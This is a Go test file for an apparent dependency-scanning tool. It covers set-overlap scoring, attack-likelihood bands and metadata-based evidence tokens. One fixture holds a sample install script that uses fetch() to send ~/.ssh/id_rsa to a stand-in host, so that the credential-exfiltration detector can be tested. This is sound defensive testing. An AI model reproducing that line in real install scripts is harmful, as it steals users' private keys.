package stages

import (
	"testing"
	"time"

	"github.com/container-kit/depguard/pkg/model"
	"github.com/container-kit/depguard/pkg/registry"
)

func TestJaccardIdenticalSets(t *testing.T) {
	a := map[string]bool{"x": true, "y": true}
	b := map[string]bool{"x": true, "y": true}
	if got := jaccard(a, b); got != 1.0 {
		t.Fatalf("identical sets should have overlap 1.0, got %v", got)
	}
}

func TestJaccardDisjointSets(t *testing.T) {
	a := map[string]bool{"x": true}
	b := map[string]bool{"y": true}
	if got := jaccard(a, b); got != 0.0 {
		t.Fatalf("disjoint sets should have overlap 0.0, got %v", got)
	}
}

func TestJaccardPartialOverlap(t *testing.T) {
	a := map[string]bool{"x": true, "y": true}
	b := map[string]bool{"x": true, "z": true}
	// intersection=1, union=3
	want := 1.0 / 3.0
	if got := jaccard(a, b); got != want {
		t.Fatalf("expected overlap %v, got %v", want, got)
	}
}

func TestLikelihoodFromOverlapBands(t *testing.T) {
	cases := []struct {
		overlap float64
		tokens  map[string]bool
		want    model.AttackLikelihood
	}{
		{0.9, map[string]bool{}, model.AttackCritical},
		{0.8, map[string]bool{}, model.AttackCritical},
		{0.7, map[string]bool{}, model.AttackHigh},
		{0.6, map[string]bool{}, model.AttackHigh},
		{0.5, map[string]bool{}, model.AttackMedium},
		{0.4, map[string]bool{}, model.AttackMedium},
		{0.1, map[string]bool{"credential_exfiltration": true}, model.AttackMedium},
		{0.1, map[string]bool{"env_access": true}, model.AttackLow},
		{0, map[string]bool{}, model.AttackNone},
	}
	for _, c := range cases {
		if got := likelihoodFromOverlap(c.overlap, c.tokens); got != c.want {
			t.Errorf("likelihoodFromOverlap(%v, %v) = %v, want %v", c.overlap, c.tokens, got, c.want)
		}
	}
}

func TestEvidenceTokensDetectsCredentialExfiltration(t *testing.T) {
	meta := registry.Metadata{
		InstallScripts: []string{`fetch('https://evil.test', {body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')})`},
	}
	tokens := evidenceTokens(meta)
	if !tokens["credential_exfiltration"] {
		t.Fatalf("expected credential_exfiltration token, got %v", tokens)
	}
}

func TestEvidenceTokensDetectsRapidRelease(t *testing.T) {
	now := time.Now()
	meta := registry.Metadata{
		FirstPublishAt: now.Add(-1 * time.Hour),
		PublishedAt:    now,
	}
	tokens := evidenceTokens(meta)
	if !tokens["rapid_release"] {
		t.Fatalf("expected rapid_release token for a sub-24h first-to-latest gap, got %v", tokens)
	}
}

func TestEvidenceTokensDetectsDormantReactivation(t *testing.T) {
	now := time.Now()
	meta := registry.Metadata{
		FirstPublishAt: now.Add(-19 * 30 * 24 * time.Hour),
		PublishedAt:    now,
	}
	tokens := evidenceTokens(meta)
	if !tokens["dormant_then_active"] {
		t.Fatalf("expected dormant_then_active token for a long-quiet package, got %v", tokens)
	}
}

func TestEvidenceTokensEmptyForBenignMetadata(t *testing.T) {
	meta := registry.Metadata{Maintainers: []string{"alice", "bob"}}
	tokens := evidenceTokens(meta)
	if len(tokens) != 0 {
		t.Fatalf("expected no tokens for benign metadata, got %v", tokens)
	}
}
